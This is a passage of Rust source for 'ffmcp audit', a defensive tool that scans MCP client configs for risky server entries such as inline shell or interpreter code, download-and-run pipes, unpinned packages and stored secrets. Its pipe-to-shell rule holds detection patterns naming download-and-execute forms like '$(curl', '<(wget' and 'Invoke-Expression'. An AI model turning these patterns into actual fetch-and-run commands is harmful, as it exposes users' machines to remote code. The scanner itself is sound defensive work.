//! `ffmcp audit`: reads an MCP client config (Claude Desktop's by default, or
//! any JSON with `mcpServers`, `servers` or `mcp.servers`) and reports risky
//! server entries: inline code, download-and-run, unpinned packages, commands
//! in writable places, secrets stored in the file, plain-http remotes.
//!
//! The rules are pure functions over `serde_json::Value`; the only I/O is
//! reading the file and asking whether a command's directory is world-writable
//! (injected into [`audit`], so tests never touch the disk). Secrets are never
//! echoed: every text an entry produces is scrubbed of the secrets found in it.

use std::path::{Path, PathBuf};

use anyhow::{Context, anyhow, bail};
use serde_json::{Map, Value, json};

/// What `ffmcp audit` prints and how it exits.
#[derive(Debug)]
pub struct Outcome {
    pub output: String,
    /// 0: nothing high; 2: at least one high finding.
    pub exit_code: u8,
}

/// Exit code when at least one high-severity finding is reported.
const EXIT_HIGH: u8 = 2;

/// Config files are small; anything bigger is not a client config.
const MAX_CONFIG_BYTES: u64 = 16 * 1024 * 1024;

/// Audits the config at `config` (or the Claude Desktop default) and renders
/// the report as text or JSON.
pub fn run(config: Option<PathBuf>, json: bool) -> anyhow::Result<Outcome> {
    let path = match config {
        Some(path) => path,
        None => {
            let path = default_config_path(|name| std::env::var_os(name))?;
            if !path.exists() {
                bail!(
                    "no config given and no Claude Desktop config at {}; pass the path of an MCP client config: ffmcp audit PATH",
                    path.display()
                );
            }
            path
        }
    };
    let text = read_config(&path)?;
    let value = parse_config(&text).map_err(|err| {
        anyhow!(
            "{}: invalid JSON at line {}, column {}: {}",
            path.display(),
            err.line(),
            err.column(),
            json_error_reason(&err)
        )
    })?;
    let report =
        audit(&value, &world_writable).map_err(|err| anyhow!("{}: {err}", path.display()))?;
    let output = if json {
        let mut text = serde_json::to_string_pretty(&render_json(&path, &report))?;
        text.push('\n');
        text
    } else {
        render_text(&path, &report)
    };
    let exit_code = if report.count(Severity::High) > 0 {
        EXIT_HIGH
    } else {
        0
    };
    Ok(Outcome { output, exit_code })
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    High,
    Medium,
    Low,
}

impl Severity {
    fn as_str(self) -> &'static str {
        match self {
            Severity::High => "high",
            Severity::Medium => "medium",
            Severity::Low => "low",
        }
    }
}

/// One risky thing about one server entry, with what to do about it.
#[derive(Debug, Clone)]
pub struct Finding {
    pub severity: Severity,
    pub server: String,
    pub rule: &'static str,
    pub message: String,
    pub fix: String,
    /// The entry wrapped in `ffmcp guard` (stdio entries with a high finding).
    pub suggestion: Option<Value>,
}

/// The findings for a whole config, per server in config order, most
/// severe first within a server.
#[derive(Debug)]
pub struct Report {
    pub servers: Vec<ServerReport>,
}

#[derive(Debug)]
pub struct ServerReport {
    pub name: String,
    pub findings: Vec<Finding>,
}

impl Report {
    pub fn findings(&self) -> impl Iterator<Item = &Finding> {
        self.servers.iter().flat_map(|s| s.findings.iter())
    }

    pub fn count(&self, severity: Severity) -> usize {
        self.findings().filter(|f| f.severity == severity).count()
    }
}

/// Audits every server entry of a parsed config. `world_writable` says whether
/// a directory that exists on this machine is writable by other users.
pub fn audit(config: &Value, world_writable: &dyn Fn(&Path) -> bool) -> Result<Report, String> {
    let Some(root) = config.as_object() else {
        return Err("the top level is not a JSON object; expected {\"mcpServers\": {...}}".into());
    };
    let mut report = Report {
        servers: Vec::new(),
    };
    for table in server_tables(root) {
        for (name, entry) in table {
            let mut findings = audit_entry(entry, world_writable);
            findings.sort_by_key(|f| f.severity);
            for f in &mut findings {
                f.server.clone_from(name);
            }
            report.servers.push(ServerReport {
                name: name.clone(),
                findings,
            });
        }
    }
    Ok(report)
}

/// Parses a config, tolerating what VS Code's JSONC allows (comments,
/// trailing commas). Error positions refer to the original text.
pub fn parse_config(text: &str) -> Result<Value, serde_json::Error> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    serde_json::from_str(&strip_jsonc(text))
}

/// Where Claude Desktop keeps its config on this OS, from environment
/// variables looked up through `var`.
pub fn default_config_path(
    var: impl Fn(&str) -> Option<std::ffi::OsString>,
) -> anyhow::Result<PathBuf> {
    let non_empty = |name: &str| var(name).filter(|v| !v.is_empty()).map(PathBuf::from);
    let file = Path::new("Claude").join("claude_desktop_config.json");
    if cfg!(windows) {
        let appdata = non_empty("APPDATA").context("APPDATA is not set; pass the config path")?;
        return Ok(appdata.join(file));
    }
    let home = non_empty("HOME");
    if cfg!(target_os = "macos") {
        let home = home.context("HOME is not set; pass the config path")?;
        return Ok(home.join("Library/Application Support").join(file));
    }
    if let Some(xdg) = non_empty("XDG_CONFIG_HOME").filter(|p| p.is_absolute()) {
        return Ok(xdg.join(file));
    }
    let home = home.context("neither XDG_CONFIG_HOME nor HOME is set; pass the config path")?;
    Ok(home.join(".config").join(file))
}

fn read_config(path: &Path) -> anyhow::Result<String> {
    let meta = std::fs::metadata(path).with_context(|| format!("reading {}", path.display()))?;
    if meta.is_dir() {
        bail!("{} is a directory; pass the config file", path.display());
    }
    if meta.len() > MAX_CONFIG_BYTES {
        bail!(
            "{} is {} bytes; a client config is at most {MAX_CONFIG_BYTES}",
            path.display(),
            meta.len()
        );
    }
    let bytes = std::fs::read(path).with_context(|| format!("reading {}", path.display()))?;
    String::from_utf8(bytes).map_err(|_| anyhow!("{}: not UTF-8 text", path.display()))
}

/// serde_json's message without its trailing " at line L column C".
fn json_error_reason(err: &serde_json::Error) -> String {
    let text = err.to_string();
    let suffix = format!(" at line {} column {}", err.line(), err.column());
    text.strip_suffix(&suffix).unwrap_or(&text).to_owned()
}

#[cfg(unix)]
fn world_writable(dir: &Path) -> bool {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(dir).is_ok_and(|m| m.is_dir() && m.permissions().mode() & 0o002 != 0)
}

#[cfg(not(unix))]
fn world_writable(_dir: &Path) -> bool {
    false
}

// ---------------------------------------------------------------------------
// Rendering

fn render_json(path: &Path, report: &Report) -> Value {
    let findings: Vec<Value> = report
        .findings()
        .map(|f| {
            let mut obj = json!({
                "severity": f.severity.as_str(),
                "server": f.server,
                "rule": f.rule,
                "message": f.message,
                "fix": f.fix,
            });
            if let (Some(suggestion), Some(map)) = (&f.suggestion, obj.as_object_mut()) {
                map.insert("suggestion".into(), suggestion.clone());
            }
            obj
        })
        .collect();
    json!({
        "config": path.display().to_string(),
        "servers": report.servers.len(),
        "findings": findings,
        "summary": {
            "high": report.count(Severity::High),
            "medium": report.count(Severity::Medium),
            "low": report.count(Severity::Low),
        },
    })
}

fn render_text(path: &Path, report: &Report) -> String {
    let count = report.servers.len();
    let plural = if count == 1 { "" } else { "s" };
    let mut out = format!("ffmcp audit: {} ({count} server{plural})\n", path.display());
    if count == 0 {
        out.push_str("no MCP servers found (looked for mcpServers, servers, mcp.servers)\n");
    }
    for server in &report.servers {
        let name = &server.name;
        if server.findings.is_empty() {
            out.push_str(&format!("\n{name}: no findings\n"));
            continue;
        }
        out.push_str(&format!("\n{name}\n"));
        for f in &server.findings {
            let tag = format!("[{}]", f.severity.as_str().to_ascii_uppercase());
            out.push_str(&format!("  {tag:<8} {}: {}\n", f.rule, f.message));
            out.push_str(&format!("           fix: {}\n", f.fix));
        }
        if let Some(suggestion) = server.findings.iter().find_map(|f| f.suggestion.as_ref()) {
            out.push_str(&format!("  suggested entry: {suggestion}\n"));
        }
    }
    out.push_str(&format!(
        "\n{} high, {} medium, {} low\n",
        report.count(Severity::High),
        report.count(Severity::Medium),
        report.count(Severity::Low)
    ));
    out
}

// ---------------------------------------------------------------------------
// Entries

/// The server tables a client config may hold: `mcpServers` (Claude Desktop,
/// Cursor, ...), `servers` (VS Code mcp.json), `mcp.servers` (VS Code settings).
fn server_tables(root: &Map<String, Value>) -> Vec<&Map<String, Value>> {
    let nested = root
        .get("mcp")
        .and_then(|mcp| mcp.get("servers"))
        .and_then(Value::as_object);
    ["mcpServers", "servers", "mcp.servers"]
        .iter()
        .filter_map(|key| root.get(*key).and_then(Value::as_object))
        .chain(nested)
        .collect()
}

/// A finding before it is attributed to a server.
fn finding(severity: Severity, rule: &'static str, message: String, fix: String) -> Finding {
    Finding {
        severity,
        server: String::new(),
        rule,
        message,
        fix,
        suggestion: None,
    }
}

fn audit_entry(entry: &Value, world_writable: &dyn Fn(&Path) -> bool) -> Vec<Finding> {
    let Some(obj) = entry.as_object() else {
        return vec![finding(
            Severity::Low,
            "invalid-entry",
            "the entry is not a JSON object; clients skip or reject it".into(),
            "Make it an object with `command` and `args`, or with `url`.".into(),
        )];
    };
    let command = obj.get("command").and_then(Value::as_str);
    let args = string_list(obj.get("args"));
    let url = ["url", "serverUrl"]
        .iter()
        .find_map(|key| obj.get(*key).and_then(Value::as_str));
    let env = obj.get("env").and_then(Value::as_object);
    let headers = obj.get("headers").and_then(Value::as_object);

    // Secrets first, so every later message can be scrubbed of them.
    let mut findings = Vec::new();
    let mut secrets = Vec::new();
    if let Some(env) = env {
        secrets_in_map(env, MapKind::Env, &mut findings, &mut secrets);
    }
    if let Some(headers) = headers {
        secrets_in_map(headers, MapKind::Headers, &mut findings, &mut secrets);
    }
    if let Some(command) = command {
        let line: Vec<String> = std::iter::once(command.to_owned())
            .chain(args.iter().cloned())
            .collect();
        secrets_in_args(&line, &mut findings, &mut secrets);
    }
    if let Some(url) = url {
        for hit in secrets_in_url(url) {
            findings.push(finding(
                Severity::High,
                "secret-in-url",
                format!("the server URL embeds {} ({})", hit.what, redact(&hit.value)),
                "Send the credential in a header referencing an environment variable (e.g. `Authorization: Bearer ${TOKEN}`) instead of the URL, and rotate it.".into(),
            ));
            secrets.push(hit.value);
        }
    }
    let scrub = Scrubber::new(secrets);

    if let Some(url) = url {
        findings.extend(insecure_remote(url, "the server URL", &scrub));
    }
    let mut guarded = false;
    if let Some(command) = command {
        findings.extend(command_location(command, world_writable, &scrub));
        let (program, rest, wrapped) = effective_invocation(command, &args);
        guarded = wrapped;
        findings.extend(stdio_rules(&program, rest, &scrub));
        let line = std::iter::once(command)
            .chain(args.iter().map(String::as_str))
            .collect::<Vec<_>>()
            .join(" ");
        if let Some(what) = pipe_to_shell(&line) {
            findings.push(finding(
                Severity::High,
                "pipe-to-shell",
                format!("the command line downloads or builds code and runs it ({what})"),
                "Install the server once from a pinned, verified release (checksum or signature) and point `command` at the installed binary; never pipe a download into a shell on every start.".into(),
            ));
        }
    } else if url.is_none() {
        findings.push(finding(
            Severity::Low,
            "invalid-entry",
            "the entry has neither `command` nor `url`".into(),
            "Give it `command` (and `args`) for a local server, or `url` for a remote one.".into(),
        ));
    }

    dedup(&mut findings);
    for f in &mut findings {
        f.message = scrub.apply(&f.message);
        f.fix = scrub.apply(&f.fix);
    }
    // Confinement helps with what the command runs, not with a leaked
    // secret or a plain-HTTP remote: suggest `ffmcp guard` only there.
    let confinable = |f: &Finding| CONFINABLE_RULES.contains(&f.rule);
    if let Some(command) = command
        && !guarded
        && findings.iter().any(confinable)
    {
        let suggestion = guard_suggestion(command, &args, &scrub);
        for f in findings.iter_mut().filter(|f| confinable(f)) {
            f.suggestion = Some(suggestion.clone());
        }
    }
    findings
}

/// Findings about what a stdio entry runs, which `ffmcp guard` can confine.
const CONFINABLE_RULES: &[&str] = &[
    "inline-code",
    "pipe-to-shell",
    "writable-path",
    "unpinned-package",
];

/// `args` as strings; a lone string counts as one argument.
fn string_list(value: Option<&Value>) -> Vec<String> {
    match value {
        Some(Value::Array(items)) => items
            .iter()
            .map(|v| match v {
                Value::String(s) => s.clone(),
                other => other.to_string(),
            })
            .collect(),
        Some(Value::String(s)) => vec![s.clone()],
        _ => Vec::new(),
    }
}

fn dedup(findings: &mut Vec<Finding>) {
    let mut seen = Vec::new();
    findings.retain(|f| {
        let key = (f.rule, f.message.clone());
        if seen.contains(&key) {
            false
        } else {
            seen.push(key);
            true
        }
    });
}

/// The entry re-written to run under `ffmcp guard`.
fn guard_suggestion(command: &str, args: &[String], scrub: &Scrubber) -> Value {
    let mut wrapped: Vec<String> = ["guard", "--policy", "<policy.toml>", "--"]
        .iter()
        .map(|s| (*s).to_owned())
        .collect();
    wrapped.push(scrub.apply(command));
    wrapped.extend(args.iter().map(|a| scrub.apply(a)));
    json!({ "command": "ffmcp", "args": wrapped })
}

/// The program that really runs: `env VAR=x prog ...` runs `prog`, and
/// `ffmcp guard ... -- prog ...` runs `prog` already guarded (third value).
fn effective_invocation<'a>(command: &str, args: &'a [String]) -> (String, &'a [String], bool) {
    let program = program_name(command);
    if program == "env" {
        let mut i = 0;
        while let Some(arg) = args.get(i) {
            if matches!(arg.as_str(), "-u" | "--unset" | "-C" | "--chdir") {
                i += 2;
            } else if arg.starts_with('-') || arg.contains('=') {
                i += 1;
            } else {
                return (program_name(arg), &args[i + 1..], false);
            }
        }
    }
    if program == "ffmcp"
        && args.first().map(String::as_str) == Some("guard")
        && let Some(sep) = args.iter().position(|a| a == "--")
        && let Some(inner) = args.get(sep + 1)
    {
        let (program, rest, _) = effective_invocation(inner, &args[sep + 2..]);
        return (program, rest, true);
    }
    (program, args, false)
}

/// The basename of a command, lower-cased, without a Windows executable suffix.
fn program_name(command: &str) -> String {
    let base = command.rsplit(['/', '\\']).next().unwrap_or(command);
    let lower = base.to_ascii_lowercase();
    for ext in [".exe", ".cmd", ".bat", ".com"] {
        if let Some(stem) = lower.strip_suffix(ext) {
            return stem.to_owned();
        }
    }
    lower
}

/// `word` is one of the whitespace-separated words of `list`.
fn listed(list: &str, word: &str) -> bool {
    list.split_whitespace().any(|w| w == word)
}

// ---------------------------------------------------------------------------
// Rule: inline code (shells and interpreters given code on the command line)

/// Inline code found on a command line: the flag that introduced it and the code.
struct InlineCode {
    flag: String,
    code: Vec<String>,
}

fn stdio_rules(program: &str, args: &[String], scrub: &Scrubber) -> Vec<Finding> {
    let mut findings = Vec::new();
    if let Some(inline) = inline_code(program, args) {
        let code = inline.code.join(" ");
        findings.push(finding(
            Severity::High,
            "inline-code",
            format!(
                "`{program} {}` runs code written into the config: {}",
                inline.flag,
                quote(&scrub.apply(&code), 80)
            ),
            "Move the code into a script or a real server binary and point `command` at it; if it has to stay, run it under `ffmcp guard` so a policy bounds what it may do.".into(),
        ));
        // `cmd /c npx pkg`, `sh -c "npx pkg"`: the inner command is audited too.
        let inner: Vec<String> = match inline.code.as_slice() {
            [one] => one.split_whitespace().map(str::to_owned).collect(),
            many => many.to_vec(),
        };
        if let Some((first, rest)) = inner.split_first()
            && program_name(first) != program
        {
            findings.extend(unpinned_packages(&program_name(first), rest));
        }
    }
    findings.extend(unpinned_packages(program, args));
    findings.extend(mcp_remote_over_http(args, scrub));
    findings
}

fn inline_code(program: &str, args: &[String]) -> Option<InlineCode> {
    match program {
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "mksh" | "ash" | "fish" => shell_inline(args),
        "cmd" => cmd_inline(args),
        "node" | "nodejs" | "bun" => node_inline(args),
        "perl" => cluster_inline(args, &['e', 'E'], &['I', 'M', 'm', 'x', 'C', 'F', 'd', 'D']),
        "ruby" => cluster_inline(args, &['e'], &['r', 'I', 'C', 'E', 'K', 'x', 'F', 'i', '0']),
        "deno" => {
            let sub = args.iter().position(|a| !a.starts_with('-'))?;
            (args[sub] == "eval").then(|| InlineCode {
                flag: "eval".into(),
                code: args[sub + 1..].to_vec(),
            })
        }
        "powershell" | "pwsh" => powershell_inline(args, program == "powershell"),
        "npx" | "bunx" | "pnpx" => npm_exec_args(args).call,
        "npm" => subcommand(args, &["exec", "x"]).and_then(|rest| npm_exec_args(rest).call),
        "pnpm" => subcommand(args, &["dlx"]).and_then(|rest| npm_exec_args(rest).call),
        p if is_python(p) => python_inline(args),
        _ => None,
    }
}

fn is_python(program: &str) -> bool {
    program == "py"
        || ["python", "pypy"].iter().any(|base| {
            program
                .strip_prefix(base)
                .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
        })
}

fn code_from(flag: &str, attached: &str, args: &[String], next: usize) -> InlineCode {
    let code = if attached.is_empty() {
        args.get(next).cloned().into_iter().collect()
    } else {
        vec![attached.to_owned()]
    };
    InlineCode {
        flag: flag.to_owned(),
        code,
    }
}

/// `sh -c CODE`, `bash -lc CODE`, `fish --command CODE`.
fn shell_inline(args: &[String]) -> Option<InlineCode> {
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        let a = arg.as_str();
        if a == "--" || a == "-" {
            return None;
        }
        if let Some(code) = a.strip_prefix("--command=") {
            return Some(code_from("--command", code, args, i + 1));
        }
        if a == "--command" {
            return Some(code_from(a, "", args, i + 1));
        }
        if matches!(a, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") {
            i += 2;
            continue;
        }
        if a.starts_with("--") || a.starts_with('+') {
            i += 1;
            continue;
        }
        if let Some(cluster) = a.strip_prefix('-') {
            if cluster.contains('c') {
                return Some(code_from(a, "", args, i + 1));
            }
            i += 1;
            continue;
        }
        return None; // a script file: not inline code
    }
    None
}

/// `cmd /c CODE` (also `/k`, `/r`, and `/cCODE`).
fn cmd_inline(args: &[String]) -> Option<InlineCode> {
    for (i, arg) in args.iter().enumerate() {
        let lower = arg.to_ascii_lowercase();
        if matches!(lower.as_str(), "/c" | "/k" | "/r") {
            return Some(InlineCode {
                flag: arg.clone(),
                code: args[i + 1..].to_vec(),
            });
        }
        if lower.starts_with("/c") || lower.starts_with("/k") {
            let mut code = vec![arg[2..].to_owned()];
            code.extend(args[i + 1..].iter().cloned());
            return Some(InlineCode {
                flag: arg[..2].to_owned(),
                code,
            });
        }
        if !arg.starts_with('/') {
            return None;
        }
    }
    None
}

/// `python -c CODE`, also clustered (`-Ic`); `-m module` and scripts are not inline.
fn python_inline(args: &[String]) -> Option<InlineCode> {
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        let a = arg.as_str();
        if a == "--" || a == "-" || !a.starts_with('-') {
            return None;
        }
        if a.starts_with("--") {
            i += 1;
            continue;
        }
        let cluster = &a[1..];
        let mut skip_next = false;
        for (j, ch) in cluster.char_indices() {
            match ch {
                'c' => return Some(code_from(a, &cluster[j + 1..], args, i + 1)),
                'm' => return None,
                'W' | 'X' => {
                    skip_next = j + 1 == cluster.len();
                    break;
                }
                _ => {}
            }
        }
        i += if skip_next { 2 } else { 1 };
    }
    None
}

/// `node -e CODE`, `--eval`, `-p`/`--print`, clusters like `-pe`.
fn node_inline(args: &[String]) -> Option<InlineCode> {
    const VALUE_OPTS: &str = "-r --require --import --loader --experimental-loader -C --conditions \
        --input-type --env-file --title";
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        let a = arg.as_str();
        if a == "--" || a == "-" || !a.starts_with('-') {
            return None;
        }
        for long in ["--eval", "--print"] {
            if a == long {
                return Some(code_from(a, "", args, i + 1));
            }
            if let Some(code) = a.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
                return Some(code_from(long, code, args, i + 1));
            }
        }
        if listed(VALUE_OPTS, a) {
            i += 2;
            continue;
        }
        if !a.starts_with("--") && a[1..].chars().any(|c| c == 'e' || c == 'p') {
            return Some(code_from(a, "", args, i + 1));
        }
        i += 1;
    }
    None
}

/// Perl/Ruby style: short options cluster (`-lne`); `inline` flags take the
/// code, `valued` flags take the rest of the cluster (or the next argument).
fn cluster_inline(args: &[String], inline: &[char], valued: &[char]) -> Option<InlineCode> {
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        let a = arg.as_str();
        if a == "--" || a == "-" || !a.starts_with('-') {
            return None;
        }
        if a.starts_with("--") {
            i += 1;
            continue;
        }
        let cluster = &a[1..];
        let mut skip_next = false;
        for (j, ch) in cluster.char_indices() {
            if inline.contains(&ch) {
                return Some(code_from(a, &cluster[j + 1..], args, i + 1));
            }
            if valued.contains(&ch) {
                skip_next = j + 1 == cluster.len();
                break;
            }
        }
        i += if skip_next { 2 } else { 1 };
    }
    None
}

/// `powershell -Command CODE` (any unambiguous prefix, `-c`), `-EncodedCommand`
/// (`-e`, `-ec`, `-enc`...). Windows PowerShell also runs a bare positional
/// argument as a command; pwsh treats it as a script file.
fn powershell_inline(args: &[String], positional_is_command: bool) -> Option<InlineCode> {
    const VALUE_PARAMS: &str = "executionpolicy ex ep windowstyle w workingdirectory wd outputformat of o \
        inputformat if psconsolefile version v settingsfile configurationname config \
        configurationfile custompipename";
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        let lower = arg.to_ascii_lowercase();
        let name = lower
            .strip_prefix("--")
            .or_else(|| lower.strip_prefix('-'))
            .or_else(|| lower.strip_prefix('/'));
        let Some(name) = name else {
            if positional_is_command && !lower.ends_with(".ps1") {
                return Some(InlineCode {
                    flag: "(positional command)".into(),
                    code: args[i..].to_vec(),
                });
            }
            return None;
        };
        let is_prefix_of = |full: &str| !name.is_empty() && full.starts_with(name);
        if name == "ec" || is_prefix_of("command") || is_prefix_of("encodedcommand") {
            return Some(code_from(arg, "", args, i + 1));
        }
        if name == "f" || (name.len() >= 2 && is_prefix_of("file")) {
            return None;
        }
        i += if listed(VALUE_PARAMS, name) { 2 } else { 1 };
    }
    None
}

// ---------------------------------------------------------------------------
// Rule: download-and-run

/// Describes a pipe into a shell or interpreter, `iex`/`Invoke-Expression`,
/// or a shell fed by a download (`bash <(curl ...)`), if `line` has one.
fn pipe_to_shell(line: &str) -> Option<String> {
    const RUNNERS: &str =
        "sh bash zsh dash ksh mksh ash fish cmd perl ruby node pwsh powershell iex";
    let bytes = line.as_bytes();
    for (idx, _) in line.match_indices('|') {
        if (idx > 0 && bytes[idx - 1] == b'|') || bytes.get(idx + 1) == Some(&b'|') {
            continue;
        }
        let words = line[idx + 1..].split_whitespace().skip_while(|w| {
            matches!(
                *w,
                "sudo" | "env" | "exec" | "command" | "-E" | "/usr/bin/env"
            ) || w.contains('=')
        });
        if let Some(word) = words.take(1).next() {
            let name = program_name(word.trim_matches(|c| c == '"' || c == '\''));
            if listed(RUNNERS, &name) || is_python(&name) {
                return Some(format!("`| {name}`"));
            }
        }
    }
    let lower = line.to_ascii_lowercase();
    if lower.contains("invoke-expression") {
        return Some("`Invoke-Expression`".into());
    }
    if has_word(&lower, "iex") {
        return Some("`iex`".into());
    }
    for fetch in ["<(curl", "<(wget", "$(curl", "$(wget", "`curl", "`wget"] {
        if lower.contains(fetch) {
            return Some(format!("`{fetch} ...`"));
        }
    }
    None
}

/// `word` occurs in `text` with no letter, digit, `_` or `-` on either side.
fn has_word(text: &str, word: &str) -> bool {
    let is_word = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-';
    text.match_indices(word).any(|(i, _)| {
        let before = text[..i].chars().next_back();
        let after = text[i + word.len()..].chars().next();
        !before.is_some_and(is_word) && !after.is_some_and(is_word)
    })
}

// ---------------------------------------------------------------------------
// Rule: unpinned package runners

/// What `npx`-like runners were asked to fetch: `--package` values or the
/// first operand, and a `-c`/`--call` shell string.
struct NpmExec {
    packages: Vec<String>,
    call: Option<InlineCode>,
}

fn npm_exec_args(args: &[String]) -> NpmExec {
    const VALUE_OPTS: &str = "--registry --cache --userconfig --prefix -w --workspace --node-options --shell \
        --script-shell";
    let mut packages = Vec::new();
    let mut call = None;
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        let a = arg.as_str();
        if a == "--" {
            i += 1;
            break;
        }
        if let Some(v) = a.strip_prefix("--package=") {
            packages.push(v.to_owned());
        } else if a == "-p" || a == "--package" {
            packages.extend(args.get(i + 1).cloned());
            i += 1;
        } else if let Some(code) = a.strip_prefix("--call=") {
            call = Some(code_from("--call", code, args, i + 1));
        } else if a == "-c" || a == "--call" {
            call = Some(code_from(a, "", args, i + 1));
            i += 1;
        } else if listed(VALUE_OPTS, a) {
            i += 1;
        } else if !a.starts_with('-') {
            break;
        }
        i += 1;
    }
    if packages.is_empty() && call.is_none() {
        packages.extend(args.get(i).cloned());
    }
    NpmExec { packages, call }
}

/// The arguments after a subcommand (`npm exec ...`), if it is one of `names`.
fn subcommand<'a>(args: &'a [String], names: &[&str]) -> Option<&'a [String]> {
    let idx = args.iter().position(|a| !a.starts_with('-'))?;
    names
        .contains(&args[idx].as_str())
        .then(|| &args[idx + 1..])
}

/// `uvx`/`pipx run` arguments: the `--from`/`--spec` value or the first operand.
fn python_runner_packages(args: &[String], from_flag: &str) -> Vec<String> {
    const VALUE_OPTS: &str = "--with --with-editable --with-requirements -w --python -p --index --index-url -i \
        --extra-index-url --default-index --find-links -f --constraints -c --overrides \
        --directory --project --cache-dir --config-file --refresh-package \
        --reinstall-package --upgrade-package -P --python-preference --color \
        --keyring-provider --exclude-newer --resolution --prerelease --index-strategy \
        --link-mode --env-file --pip-args --allow-insecure-host --config-setting -C";
    let mut from = None;
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        let a = arg.as_str();
        if a == "--" {
            i += 1;
            break;
        }
        if let Some(v) = a.strip_prefix(from_flag).and_then(|r| r.strip_prefix('=')) {
            from = Some(v.to_owned());
        } else if a == from_flag {
            from = args.get(i + 1).cloned();
            i += 1;
        } else if listed(VALUE_OPTS, a) {
            i += 1;
        } else if !a.starts_with('-') {
            break;
        }
        i += 1;
    }
    from.or_else(|| args.get(i).cloned()).into_iter().collect()
}

#[derive(Clone, Copy, PartialEq)]
enum Ecosystem {
    Npm,
    Python,
}

fn unpinned_packages(program: &str, args: &[String]) -> Vec<Finding> {
    let (runner, ecosystem, packages) = match program {
        "npx" | "bunx" | "pnpx" => (
            program.to_owned(),
            Ecosystem::Npm,
            npm_exec_args(args).packages,
        ),
        "npm" | "pnpm" | "yarn" | "bun" => {
            let names: &[&str] = match program {
                "npm" => &["exec", "x"],
                "bun" => &["x"],
                _ => &["dlx"],
            };
            let Some(rest) = subcommand(args, names) else {
                return Vec::new();
            };
            (
                format!("{program} {}", args[args.len() - rest.len() - 1]),
                Ecosystem::Npm,
                npm_exec_args(rest).packages,
            )
        }
        "uvx" => (
            "uvx".into(),
            Ecosystem::Python,
            python_runner_packages(args, "--from"),
        ),
        "uv" => {
            let Some(rest) =
                subcommand(args, &["tool"]).and_then(|r| subcommand(r, &["run", "uvx"]))
            else {
                return Vec::new();
            };
            (
                "uv tool run".into(),
                Ecosystem::Python,
                python_runner_packages(rest, "--from"),
            )
        }
        "pipx" => {
            let Some(rest) = subcommand(args, &["run"]) else {
                return Vec::new();
            };
            (
                "pipx run".into(),
                Ecosystem::Python,
                python_runner_packages(rest, "--spec"),
            )
        }
        _ => return Vec::new(),
    };
    packages
        .iter()
        .filter_map(|spec| {
            let pin = match ecosystem {
                Ecosystem::Npm => npm_pin(spec),
                Ecosystem::Python => python_pin(spec),
            };
            unpinned_finding(&runner, ecosystem, spec, pin)
        })
        .collect()
}

/// How exactly a package spec names what will run.
#[derive(Debug, PartialEq)]
enum Pin {
    /// An exact version, a local path, or a URL: nothing moves under you.
    Exact,
    /// No version at all.
    Missing { name: String },
    /// `@latest`.
    Latest { name: String },
    /// A range or a tag (`^1.2`, `next`, `>=1`).
    Loose { name: String, version: String },
    /// A git source without a commit/ref.
    GitHead,
}

fn unpinned_finding(runner: &str, ecosystem: Ecosystem, spec: &str, pin: Pin) -> Option<Finding> {
    let (detail, name) = match pin {
        Pin::Exact => return None,
        Pin::Missing { name } => ("has no version".to_owned(), name),
        Pin::Latest { name } => ("asks for @latest".to_owned(), name),
        Pin::Loose { name, version } => {
            (format!("asks for `{version}`, not an exact version"), name)
        }
        Pin::GitHead => {
            return Some(finding(
                Severity::Medium,
                "unpinned-package",
                format!(
                    "`{runner}` runs `{spec}` from a git branch head: whatever is pushed there runs next start"
                ),
                format!("Pin a commit: `{spec}#<commit-sha>`, or a published exact version."),
            ));
        }
    };
    let fix = match ecosystem {
        Ecosystem::Npm => format!(
            "Pin an exact version: `{name}@X.Y.Z` (current: `npm view {name} version`); a new release, or a hijacked one, then cannot run unreviewed."
        ),
        Ecosystem::Python => format!(
            "Pin an exact version: `{name}==X.Y.Z` (with `--from`/`--spec` if the command name differs); a new release, or a hijacked one, then cannot run unreviewed."
        ),
    };
    Some(finding(
        Severity::Medium,
        "unpinned-package",
        format!("`{runner}` fetches `{spec}`, which {detail}: each start may run different code"),
        fix,
    ))
}

fn is_path_or_url(spec: &str) -> bool {
    let b = spec.as_bytes();
    spec.starts_with(['.', '/', '~', '\\'])
        || spec.starts_with("file:")
        || (b.len() > 2
            && b[1] == b':'
            && b[0].is_ascii_alphabetic()
            && matches!(b[2], b'\\' | b'/'))
}

fn npm_pin(spec: &str) -> Pin {
    if is_path_or_url(spec) {
        return Pin::Exact;
    }
    let git = ["git+", "git:", "github:", "gitlab:", "bitbucket:", "gist:"]
        .iter()
        .any(|p| spec.starts_with(p));
    if spec.contains("://") && !git {
        return Pin::Exact; // a tarball URL
    }
    if git || (!spec.starts_with('@') && spec.contains('/')) {
        return if spec.contains('#') {
            Pin::Exact
        } else {
            Pin::GitHead
        };
    }
    let name_end = if let Some(scoped) = spec.strip_prefix('@') {
        scoped
            .find('/')
            .and_then(|slash| scoped[slash..].find('@').map(|at| 1 + slash + at))
    } else {
        spec.find('@')
    };
    let Some(at) = name_end else {
        return Pin::Missing {
            name: spec.to_owned(),
        };
    };
    let (name, version) = (spec[..at].to_owned(), &spec[at + 1..]);
    if version.eq_ignore_ascii_case("latest") {
        Pin::Latest { name }
    } else if is_exact_semver(version) {
        Pin::Exact
    } else if version.is_empty() {
        Pin::Missing { name }
    } else {
        Pin::Loose {
            name,
            version: version.to_owned(),
        }
    }
}

/// `1.2.3`, `v1.2.3`, `=1.2.3`, `1.2.3-beta.1+build`.
fn is_exact_semver(version: &str) -> bool {
    let v = version.strip_prefix(['=', 'v']).unwrap_or(version);
    let core_end = v.find(['-', '+']).unwrap_or(v.len());
    let parts: Vec<&str> = v[..core_end].split('.').collect();
    let numeric = |p: &&str| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit());
    let tail_ok = v[core_end..]
        .bytes()
        .skip(1)
